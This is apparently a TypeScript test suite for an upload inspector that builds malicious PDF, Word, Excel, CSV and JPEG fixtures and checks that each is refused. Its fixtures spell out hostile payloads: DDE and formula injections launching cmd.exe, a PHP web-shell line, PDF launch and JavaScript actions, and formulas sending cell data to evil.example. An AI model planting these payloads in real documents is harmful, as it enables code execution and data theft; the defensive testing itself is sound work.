import { describe, expect, it } from "vitest";
import type { FileType } from "../../../src/forms/file-types";
import type { FindingCode } from "../../../src/intake/inspection/finding";
import { inspect } from "../../../src/intake/inspection/inspect";
import {
  compoundFile,
  docxWith,
  type Extras,
  field,
  formulaRow,
  names,
  relationsXml,
  typesXml,
  wordXml,
  xlsxParts,
  xlsxWith,
} from "../office-samples";
import { deflated, objectStream, type PdfObjects, pdfWith } from "../pdf-samples";
import { followedBy, jpeg, pdf } from "../samples";
import { zip } from "../zip-samples";

type Attack = readonly [name: string, code: FindingCode, bytes: Uint8Array];

const text = (content: string) => new TextEncoder().encode(content);

const openWith = (action: string, more: PdfObjects = {}): PdfObjects => ({
  1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
  ...more,
});
const script = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";
const page = (entries: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${entries} >>`;

const pdfs: readonly Attack[] = [
  ["a script", "script", pdfWith(openWith("5 0 R", { 5: script }))],
  ["a script whose name is in hex", "script", pdfWith(openWith("<< /S /J#61vaScript /JS (app.alert) >>"))],
  ["a script whose every letter is in hex", "script", pdfWith({ 5: "<< /S /#4a#61#76#61#53#63#72#69#70#74 >>" })],
  ["a script in a compressed object stream", "script", pdfWith(openWith("5 0 R", { 5: script }), { packed: true })],
  [
    "a script in hex in a compressed object stream",
    "script",
    pdfWith(openWith("<< /S /Java#53cript /J#53 (x) >>"), { packed: true }),
  ],
  ["a script behind a name that is an object of its own", "script", pdfWith({ 5: "/JavaScript", 6: "<< /S 5 0 R >>" })],
  ["scripts by name", "script", pdfWith({ 1: "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>" })],
  ["a script behind a string that never ends", "script", hiddenBehind("( ")],
  ["a script behind a stream that never ends", "script", hiddenBehind("<< /Length 9 >>\nstream\n")],
  [
    "a script within the data of a stream",
    "script",
    pdfWith({ 5: { entries: "", data: text(`7 0 obj ${script} endobj`) } }),
  ],
  ["a script behind a bracket that closes nothing", "script", pdfWith({ 5: "<< /A ] /S /JavaScript >>" })],
  ["a script that no table of objects knows", "script", followedBy(pdf, `9 0 obj\n${script}\nendobj\n`)],
  [
    "a script in an object stream of another type",
    "script",
    pdfWith({ 5: { ...objectStream([[7, script]]), entries: `/Kind /Other /N 1 /First 4 /Filter /FlateDecode` } }),
  ],
  [
    "a script behind an unfinished string in an object stream",
    "script",
    pdfWith({
      5: objectStream([
        [7, "( never closed"],
        [8, script],
      ]),
    }),
  ],
  ["an object stream that is packed in another way", "unreadable", pdfWith({ 5: filteredAs("/ASCIIHexDecode") })],
  ["an object stream that is packed twice", "unreadable", pdfWith({ 5: filteredAs("[/ASCII85Decode /FlateDecode]") })],
  [
    "an object stream with a predictor",
    "unreadable",
    pdfWith({ 5: filteredAs("/FlateDecode /DecodeParms << /Predictor 12 >>") }),
  ],
  [
    "an object stream whose head is elsewhere",
    "unreadable",
    pdfWith({ 5: deflated("/Type /ObjStm /N 9 0 R /First 4", "7 0 1") }),
  ],
  [
    "an object stream that is cut off",
    "unreadable",
    pdfWith({ 5: cutOff(objectStream([[7, `${"1 ".repeat(500)}`]])) }),
  ],
  [
    "an encrypted object stream",
    "unreadable",
    pdfWith({ 5: { ...objectStream([[7, "1"]]), data: text("no deflate") } }),
  ],
  ["a program that is started", "program", pdfWith(openWith("<< /S /Launch /Win << /F (cmd.exe) >> >>"))],
  ["a program whose name is in hex", "program", pdfWith({ 5: "<< /S /L#61unch /F (cmd.exe) >>" })],
  [
    "an embedded file",
    "embedded",
    pdfWith({ 5: deflated("/Type /EmbeddedFile", "MZ"), 6: "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>" }),
  ],
  [
    "an embedded file without a type",
    "embedded",
    pdfWith({ 6: "<< /F (a.exe) /#45F << /F 5 0 R >> >>" }, { packed: true }),
  ],
  ["a file pinned to the page", "embedded", pdfWith({ 3: page("/Annots [<< /Subtype /FileAttachment /FS 5 0 R >>]") })],
  ["a way into an embedded document", "embedded", pdfWith({ 5: "<< /S /GoToE /T << /R /C /N (a.pdf) >> >>" })],
  ["rich media", "script", pdfWith({ 3: page("/Annots [<< /Subtype /RichMedia >>]") })],
  ["a script of a three-dimensional picture", "script", pdfWith({ 5: "<< /Type /3D /OnInstantiate 6 0 R >>" })],
  ["a rendition with a script", "script", pdfWith({ 5: "<< /S /Rendition /OP 0 >>" })],
  [
    "an action that a page starts",
    "remote",
    pdfWith({ 3: page("/AA << /O << /S /URI /URI (https://evil.example) >> >>") }),
  ],
  [
    "an action elsewhere that a page starts",
    "remote",
    pdfWith({ 3: page("/AA << /O 5 0 R >>"), 5: "<< /S /URI /URI (https://evil.example) >>" }),
  ],
  ["actions elsewhere that a page starts", "script", pdfWith({ 3: page("/AA 5 0 R"), 5: "<< /O 6 0 R >>" })],
  ["an XFA form", "form", pdfWith({ 1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>" })],
  ["a form that sends itself", "form", pdfWith(openWith("<< /S /SubmitForm /F (https://evil.example) >>"))],
  ["a form that takes data in", "form", pdfWith({ 5: "<< /S /ImportData /F (a.fdf) >>" })],
  ["an address that opens by itself", "remote", pdfWith(openWith("<< /S /URI /URI (https://evil.example) >>"))],
  [
    "an address that opens by itself, elsewhere",
    "remote",
    pdfWith(openWith("5 0 R", { 5: "<< /S /URI /URI (x) >>" }), { packed: true }),
  ],
  [
    "a document on a foreign host that opens by itself",
    "remote",
    pdfWith(openWith("<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>")),
  ],
  [
    "an address that opens as the second action",
    "remote",
    pdfWith(openWith("<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>")),
  ],
  [
    "an opening action whose kind is an object of its own",
    "remote",
    pdfWith(openWith("<< /S 6 0 R /URI 7 0 R >>", { 6: "/URI" })),
  ],
  ["an opening action that is nowhere", "unreadable", pdfWith(openWith("77 0 R"))],
  ["a page as well", "foreign", followedBy(pdf, "<html><body onload=alert(1)>")],
  ["an archive as well", "foreign", followedBy(pdf, zip({ "a.class": "x" }))],
];

function hiddenBehind(start: string): Uint8Array {
  return followedBy(pdf, `8 0 obj\n${start}\n9 0 obj\n${script}\nendobj\n`);
}

function filteredAs(filter: string) {
  return { ...objectStream([[7, "<< >>"]]), entries: `/Type /ObjStm /N 1 /First 4 /Filter ${filter}` };
}

function cutOff(stream: ReturnType<typeof objectStream>) {
  return { ...stream, data: stream.data.subarray(0, stream.data.byteLength - 12) };
}

const related = (type: string, target: string, external = false): Extras => ({
  relations: [{ type, target, external }],
});
const remote = (type: string, target: string) => related(type, target, true);

const ddeLink =
  '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';

const documents: readonly Attack[] = [
  [
    "macros",
    "macro",
    docxWith({ ...related(names.vbaRelation, "vbaProject.bin"), parts: { "word/vbaProject.bin": compoundFile } }),
  ],
  [
    "macros of another name",
    "macro",
    docxWith({ parts: { "word/photo.jpeg": compoundFile }, overrides: { "/word/photo.jpeg": names.vbaType } }),
  ],
  ["macros by a relation alone", "macro", docxWith(related(names.vbaRelation, "media/photo.jpeg"))],
  [
    "macros by a relation in references to characters",
    "macro",
    docxWith(related(names.vbaRelation.replace("vba", "v&#98;&#x61;"), "a.jpeg")),
  ],
  [
    "macros that nothing names",
    "embedded",
    docxWith({ parts: { "word/media/photo.jpeg": compoundFile }, defaults: { jpeg: "image/jpeg" } }),
  ],
  ["the type of a document with macros", "macro", docxWith({ mainType: names.macroDocumentType })],
  ["an ActiveX control", "script", docxWith(related("control", "activeX/activeX1.xml"))],
  ["an OLE object", "embedded", docxWith(related("oleObject", "embeddings/oleObject1.bin"))],
  ["a document within", "embedded", docxWith(related("package", "embeddings/a.docm"))],
  ["a foreign document within", "embedded", docxWith(related("aFChunk", "chunk.rtf"))],
  ["a table of a chart that has macros", "macro", chartOf(xlsxWith({ mainType: names.macroWorkbookType }))],
  ["a table of a chart that has a chart", "embedded", chartOf(chartOf(xlsxWith({})))],
  ["a table of a chart that is no workbook", "embedded", chartOf(text("MZ"))],
  ["a template on a foreign host", "remote", docxWith(settingsOf("attachedTemplate", "https://evil.example/a.dotm"))],
  ["a template in the network", "remote", docxWith(settingsOf("attachedTemplate", "file://evil.example/share/a.dotm"))],
  [
    "a template in the network, with backslashes",
    "remote",
    docxWith(settingsOf("attachedTemplate", "file:///\\\\evil\\a.dotm")),
  ],
  [
    "a template whose address is written in references",
    "remote",
    docxWith(settingsOf("attachedTemplate", "h&#116;tp://evil.example/a")),
  ],
  ["a picture on a foreign host", "remote", docxWith(remote("image", "https://evil.example/pixel.png"))],
  ["an OLE object on a foreign host", "embedded", docxWith(remote("oleObject", "https://evil.example/a.hta!x"))],
  ["a frame", "remote", docxWith(remote("frame", "https://evil.example/"))],
  ["a part of another document", "remote", docxWith(remote("subDocument", "a.docx"))],
  ["a database to merge with", "remote", docxWith(remote("mailMergeSource", "file:///C:\\a.mdb"))],
  ["a link that starts a tool of the system", "remote", docxWith(remote("hyperlink", "ms-msdt:/id PCWDiagnostic"))],
  ["a link that is a script", "remote", docxWith(remote("hyperlink", "javascript:alert(1)"))],
  ["a link into a foreign network", "remote", docxWith(remote("hyperlink", "\\\\evil\\share"))],
  ["an add-in", "script", docxWith(related(names.webExtensionRelation, "webextension1.xml"))],
  [
    "DDE in a field",
    "field",
    docxWith({ content: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"') }),
  ],
  ["DDE split over runs", "field", docxWith({ content: field("D", "D", "E ", '"cmd"') })],
  ["DDE in a simple field", "field", docxWith({ content: '<w:fldSimple w:instr="DDE cmd x"><w:r/></w:fldSimple>' })],
  [
    "DDE behind an attribute with a bracket",
    "field",
    docxWith({ content: '<w:fldSimple w:dirty="a>b" w:instr="&#68;DE cmd"/>' }),
  ],
  ["DDE within another field", "field", docxWith({ content: nested('IF "a" = "b" ', "DDE cmd x") })],
  ["DDE whose name a field makes", "field", docxWith({ content: nested("", "QUOTE 68 68 69") })],
  [
    "DDE in no field",
    "field",
    docxWith({ content: "<w:instrText>PAGE</w:instrText><w:instrText>DDE cmd</w:instrText>" }),
  ],
  [
    "DDE behind the result of a field",
    "field",
    docxWith({ content: field("PAGE").replace("<w:t>1</w:t>", "<w:instrText>DDE cmd</w:instrText>") }),
  ],
  [
    "DDE in a field with two marks in one",
    "unreadable",
    docxWith({
      content: field("DDE cmd").replace("<w:fldChar ", '<w:fldChar xmlns:a="urn:a" a:fldCharType="end" '),
    }),
  ],
  ["DDE with a comment in it", "field", docxWith({ content: field("DD<!-- x < y -->E cmd") })],
  ["DDE in CDATA", "field", docxWith({ content: field("<![CDATA[DDE cmd]]>") })],
  [
    "DDE in UTF-16",
    "field",
    docxWith({
      parts: { "word/footer1.xml": utf16(wordXml("ftr", field("DDE cmd x"))) },
      overrides: { "/word/footer1.xml": names.footerType },
    }),
  ],
  [
    "DDE in a header of another name",
    "field",
    docxWith({
      parts: { "word/media/a.png": wordXml("hdr", field("DDE cmd")) },
      overrides: { "/word/media/a.png": names.footerType },
    }),
  ],
  ["DDE in footnotes", "field", docxWith({ parts: { "word/footnotes.xml": wordXml("footnotes", field("DDE cmd")) } })],
  ["a picture in a drawing of old", "remote", docxWith({ content: '<w:a src="http://evil.example/a.png"/>' })],
  ["a picture in the network", "remote", docxWith({ content: '<w:a src="\\\\evil\\a.png"/>' })],
  ["a film from elsewhere", "unreadable", docxWith({ content: '<w:a embeddedHtml="&lt;iframe/>"/>' })],
  ["unknown elements that count", "unreadable", docxWith({ content: '<w:a w:ProcessContent="x:y"/>' })],
  ["a letter to many that asks a database", "remote", docxWith({ content: "<w:mailMerge/>" })],
  ["a macro for a field of a form", "macro", docxWith({ content: '<w:entryMacro w:val="AutoOpen"/>' })],
  [
    "a document within data that a text is bound to",
    "embedded",
    docxWith({ parts: { "customXml/item1.xml": "<a> &lt;?xml version='1.0'?>&lt;pkg:package/></a>" } }),
  ],
  ["another file by a field", "field", docxWith({ content: field('INCLUDETEXT "https://evil.example/a"') })],
  ["a database by a field", "field", docxWith({ content: field('DATABASE \\d "C:\\a.mdb"') })],
  [
    "a document type",
    "unreadable",
    docxWith({ parts: { "word/header1.xml": '<!DOCTYPE a [<!ENTITY b "DDE">]><w:hdr/>' } }),
  ],
  ["a document type in relations", "unreadable", docxWith({ parts: { "word/_rels/a.xml.rels": "<!DOCTYPE a><a/>" } })],
  [
    "an encoding that hides letters",
    "unreadable",
    docxWith({ parts: { "word/header1.xml": '<?xml version="1.0" encoding="UTF-7"?><w:hdr/>' } }),
  ],
  ["a part of XML that is none", "unreadable", docxWith({ parts: { "word/header1.xml": "+ADw-w:hdr" } })],
];

function settingsOf(type: string, target: string): Extras {
  const settings = {
    "word/settings.xml": wordXml("settings", ""),
    "word/_rels/settings.xml.rels": relationsXml([{ type, target, external: true }]),
  };
  return {
    ...related("settings", "settings.xml"),
    overrides: { "/word/settings.xml": names.settingsType },
    parts: settings,
  };
}

function chartOf(table: Uint8Array): Uint8Array {
  return docxWith({
    ...related("chart", "charts/chart1.xml"),
    overrides: { "/word/charts/chart1.xml": names.chartType },
    defaults: { xlsx: names.workbookType },
    parts: {
      "word/charts/chart1.xml": "<chartSpace/>",
      "word/charts/_rels/chart1.xml.rels": relationsXml([{ type: "package", target: "../embeddings/Table.xlsx" }]),
      "word/embeddings/Table.xlsx": table,
    },
  });
}

function nested(start: string, inner: string): string {
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const code = (content: string) => `<w:r><w:instrText>${content}</w:instrText></w:r>`;
  return `<w:p>${mark("begin")}${code(start)}${mark("begin")}${code(inner)}${mark("end")}${code(" ")}${mark("end")}</w:p>`;
}

function utf16(xml: string): Uint8Array {
  return new Uint8Array(Buffer.from(`\ufeff${xml.replace("UTF-8", "UTF-16")}`, "utf16le"));
}

const workbooks: readonly Attack[] = [
  [
    "macros",
    "macro",
    xlsxWith({ ...related(names.vbaRelation, "vbaProject.bin"), parts: { "xl/vbaProject.bin": compoundFile } }),
  ],
  [
    "macros of another name",
    "macro",
    xlsxWith({ parts: { "xl/printer.bin": compoundFile }, defaults: { bin: names.vbaType } }),
  ],
  ["the type of a workbook with macros", "macro", xlsxWith({ mainType: names.macroWorkbookType })],
  [
    "a sheet of Excel 4 macros",
    "macro",
    xlsxWith({ parts: { "xl/a.xml": "<xm:macrosheet/>" }, overrides: { "/xl/a.xml": names.macroSheetType } }),
  ],
  [
    "an international sheet of macros",
    "macro",
    xlsxWith({ parts: { "xl/a.xml": "<a/>" }, overrides: { "/XL/A.xml": names.internationalMacroSheetType } }),
  ],
  [
    "a sheet of macros by a relation alone",
    "macro",
    xlsxWith(related(names.macroSheetRelation, "worksheets/sheet2.xml")),
  ],
  [
    "DDE as a link",
    "remote",
    xlsxWith({
      parts: { "xl/externalLinks/externalLink1.xml": ddeLink },
      overrides: { "/xl/externalLinks/externalLink1.xml": names.externalLinkType },
    }),
  ],
  ["DDE in a formula", "formula", xlsxWith({ content: formulaRow("cmd|'/c calc'!A0") })],
  ["DDE in references to characters", "formula", xlsxWith({ content: formulaRow("cmd&#124;&apos;/c calc&apos;!A0") })],
  ["DDE in CDATA", "formula", xlsxWith({ content: formulaRow("<![CDATA[cmd|'/c calc'!A0]]>") })],
  ["DDE behind an addition", "formula", xlsxWith({ content: formulaRow("SUM(1,1)*cmd|'/c calc'!A0") })],
  ["DDE in a rule for input", "formula", xlsxWith({ content: "<x:formula1>cmd|'/c calc'!A0</x:formula1>" })],
  [
    "DDE in a name",
    "formula",
    xlsxWith({ parts: { "xl/workbook2.xml": "<definedName name='a'>cmd|'/c x'!A</definedName>" } }),
  ],
  [
    "DDE behind a megabyte",
    "formula",
    xlsxWith({ content: `<row><c><v>${"1".repeat(1_200_000)}</v></c></row>${formulaRow("cmd|'/c calc'!A0")}` }),
  ],
  [
    "a formula that fetches",
    "formula",
    xlsxWith({ content: formulaRow('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)') }),
  ],
  ["a formula that starts a server", "formula", xlsxWith({ content: formulaRow('RTD("evil.server",,"a")') })],
  ["another workbook on a foreign host", "remote", externalWorkbook("https://evil.example/a.xlsx")],
  ["another workbook in the network", "remote", externalWorkbook("file:///\\\\evil\\share\\a.xlsx")],
  [
    "data that is fetched on opening",
    "remote",
    xlsxWith({
      parts: { "xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1"/></connections>' },
      overrides: { "/xl/connections.xml": names.connectionsType },
    }),
  ],
  ["an OLE object in a sheet", "embedded", sheetWith("oleObject", "../embeddings/oleObject1.bin")],
  ["an ActiveX control in a sheet", "script", sheetWith("control", "../activeX/activeX1.xml")],
];

function externalWorkbook(target: string): Uint8Array {
  return xlsxWith({
    parts: {
      "xl/externalLinks/externalLink1.xml": "<externalLink/>",
      "xl/externalLinks/_rels/externalLink1.xml.rels": relationsXml([
        { type: "externalLinkPath", target, external: true },
      ]),
    },
  });
}

function sheetWith(type: string, target: string): Uint8Array {
  return xlsxWith({ parts: { "xl/worksheets/_rels/sheet1.xml.rels": relationsXml([{ type, target }]) } });
}

const tables: readonly Attack[] = [
  ["DDE", "formula", text("nama;harga\r\n=cmd|' /C calc'!A0;5\r\n")],
  ["DDE behind a plus", "formula", text("nama,harga\n+cmd|' /C calc'!A0,5\n")],
  ["DDE behind a minus", "formula", text("nama,harga\n-cmd|'/C calc'!A0,5\n")],
  ["DDE behind a function", "formula", text("a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n")],
  ["DDE in quotes", "formula", text('a,b\n1,"=1+cmd|\' /C ""calc""\'!A0"\n')],
  ["DDE without quotes", "formula", text("a,b\n1,=calc|a!b\n")],
  ["DDE behind blanks", "formula", text("a\tb\n1\t  =MSEXCEL|'\\..\\cmd.exe'!''\n")],
  ["a formula that fetches", "formula", text('a,b\n=WEBSERVICE("https://evil.example/"&A1),1\n')],
  ["a formula that imports", "formula", text('a;b\n=IMPORTXML("https://evil.example";"//a");1\n')],
  ["a link that takes cells along", "formula", text('a;b\n=HYPERLINK("https://evil.example/?"&A1;"tekan");1\n')],
  ["SYLK with a macro", "macro", text('ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc")\nE\n')],
  ["a page", "foreign", text("a;b\n<script>alert(1)</script>")],
  ["a program", "foreign", text("<?php system($_GET[0]);")],
];

describe.each<readonly [type: FileType, attacks: readonly Attack[]]>([
  ["pdf", pdfs],
  ["docx", documents],
  ["xlsx", workbooks],
  ["csv", tables],
  [
    "jpeg",
    [
      ["an archive as well", "foreign", followedBy(jpeg, zip({ "a.class": "x" }))],
      ["a PDF as well", "foreign", followedBy(jpeg, pdf)],
      ["a script", "foreign", followedBy(jpeg, "<script>alert(1)</script>")],
    ],
  ],
])("a %s is refused that has or is", (type, attacks) => {
  it.each(attacks)("%s", async (_, code, bytes) => {
    expect(await inspect(bytes)).toEqual({ type, finding: expect.objectContaining({ code }) });
  });
});

const dialog = xlsxParts();

describe("what is no document at all", () => {
  it.each([
    [
      "an archive whose entries call themselves otherwise",
      zip(dialog, { localName: (name) => name.replace("xl", "lx") }),
    ],
    ["an archive with an entry within another", zip(dialog, { within: "inner" })],
    ["an archive with two parts of one name", zip({ ...dialog, "XL/workbook.xml": "<a/>" })],
    ["an archive whose entries have a second name", zip(dialog, { extraField: Buffer.from("up\x05\0\x01aaaa") })],
    ["an encrypted archive", zip(dialog, { flags: 1 })],
    [
      "an archive of 5,000 entries",
      zip({ ...dialog, ...Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`a${i}`, ""])) }),
    ],
    ["a document behind something else", followedBy(text("x"), zip(dialog))],
    ["a document with something behind it", followedBy(zip(dialog), "<script>")],
    [
      "a web page that calls itself XML",
      text('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'),
    ],
    ["a letter that calls itself a table", text("{\\rtf1\\object\\objdata 01}")],
  ])("%s", async (_, bytes) => {
    expect(await inspect(bytes)).toEqual({ type: null, finding: null });
  });

  it("is a types part with a document type", async () => {
    const types = `<!DOCTYPE a [<!ENTITY b "c">]>${typesXml({})}`;
    expect(await inspect(zip({ ...dialog, "[Content_Types].xml": types }))).toEqual({
      type: null,
      finding: expect.objectContaining({ code: "unreadable" }),
    });
  });
});
